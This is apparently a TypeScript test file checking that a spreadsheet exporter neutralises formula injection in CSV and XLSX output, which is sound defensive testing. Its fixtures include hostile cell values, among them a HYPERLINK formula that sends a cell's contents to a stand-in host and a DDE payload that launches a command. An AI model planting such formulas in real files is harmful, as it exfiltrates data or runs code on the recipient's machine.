import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvOf, xlsxOf } from './spreadsheet.ts';

/** Names as somebody would enter them to have a formula run on whoever opens the file. */
const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Ашу")',
  "=cmd|'/C calc'!A0",
  '+7 701 000 00 00',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  'Ким "Рус", лан\r\n=1+1',
];
const harmless = ['Іңкәр Қыдырәлі', 'Есіл ауданы, №2', "O'Connor", 'a=b', 'Әуезхан – Ж.', ''];

describe('a CSV', () => {
  const rows = [['name', 'count'], ...[...hostile, ...harmless].map((name) => [name, -3] as const)];
  const text = csvOf({ name: 'x', rows });
  const read = Papa.parse<[string, string]>(text.slice(1).trimEnd()).data.slice(1);

  it.each(hostile.slice(0, -1).map((name, place) => [name, place] as const))('%j is read as text', (name, place) => {
    expect(read[place]?.[0]).toBe(`'${name}`);
  });

  it.each(harmless.map((name, place) => [name, place] as const))('%j stays as it is', (name, place) => {
    expect(read[hostile.length + place]?.[0]).toBe(name);
  });

  it('keeps a line break inside a name in one cell, and numbers as numbers', () => {
    expect(read).toHaveLength(rows.length - 1);
    expect(read[hostile.length - 1]?.[0]).toBe(hostile.at(-1));
    expect(read.every(([, count]) => count === '-3')).toBe(true);
    expect(text.startsWith('\ufeff')).toBe(true);
  });
});

describe('an XLSX', () => {
  it('has every text as a text and no formula', async () => {
    const rows = [['Аты', 'Саны'], ...[...hostile, ...harmless].map((name) => [name, -3] as const)];
    const files = unzipSync(
      await xlsxOf([
        { name: 'Күн/апта: 1', rows },
        { name: 'Екінші', rows: [['A'], [null]] },
      ]),
    );
    const sheets = Object.keys(files).filter((path) => /worksheets\/sheet\d+\.xml$/.test(path));
    expect(sheets).toHaveLength(2);
    const xml = sheets.map((path) => strFromU8(files[path] ?? new Uint8Array())).join('');
    expect(xml).not.toMatch(/<f[ >/]/);
    const strings = Object.entries(files)
      .map(([, bytes]) => strFromU8(bytes))
      .join('');
    expect(strings).toContain('@SUM(A1:A9)');
    expect(strings).toContain('HYPERLINK("http://evil.example/?x="&amp;A1');
    // A cell of a text is of a type for texts: "s" or "inlineStr"; without a type it is a number.
    const untyped = [...xml.matchAll(/<c (?![^>]*t=)[^>]*>(.*?)<\/c>/g)].map(([, content]) => content);
    expect(untyped.every((content) => /^<v>-?\d+<\/v>$/.test(content ?? ''))).toBe(true);
    expect(strings).not.toContain('Күн/апта');
  });
});
